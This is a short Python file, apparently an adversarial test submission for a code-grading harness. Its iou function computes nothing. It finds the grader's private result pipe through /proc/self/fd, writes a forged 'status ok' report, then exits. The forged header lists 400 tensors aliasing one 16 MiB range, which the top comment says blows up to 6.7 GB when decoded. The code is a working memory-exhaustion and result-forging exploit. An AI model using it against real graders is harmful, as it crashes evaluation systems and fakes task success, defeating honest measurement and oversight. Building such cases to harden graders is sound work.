# ---- adversarial part: a small report whose tensors all point at the same bytes ----
# The transfer caps each tensor (2**24 elements) and the whole report (64 MiB), not how many tensors
# the header lists, and nothing stops two of them sharing a byte range: 400 descriptions of one
# 16 MiB range are 16 MiB on the wire and 6.7 GB once the grader decodes them (each one copied).
import json
import os
import struct

_BYTES = 1 << 24  # one uint8 tensor at the element cap
_COPIES = 400
_HEADER = json.dumps({
    "value": {"dict": [["status", "ok"], ["value", {"dict": [["value", {"tensor": 0}]]}]]},
    "tensors": [{"dtype": "uint8", "shape": [_BYTES], "offset": 0, "nbytes": _BYTES}] * _COPIES,
}).encode()


def _result_pipes():
    """Open pipes other than stdout/stderr: the grader's result pipe."""
    output_pipe = os.readlink("/proc/self/fd/1")
    for name in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{name}")
        except OSError:
            continue
        if int(name) > 2 and target.startswith("pipe:") and target != output_pipe:
            yield int(name)


def iou(boxes1, boxes2):
    report = b"AGV1" + struct.pack("<Q", len(_HEADER)) + _HEADER + bytes(_BYTES)
    for fd in list(_result_pipes()):
        try:
            os.write(fd, report)
        except OSError:
            pass
    os._exit(0)
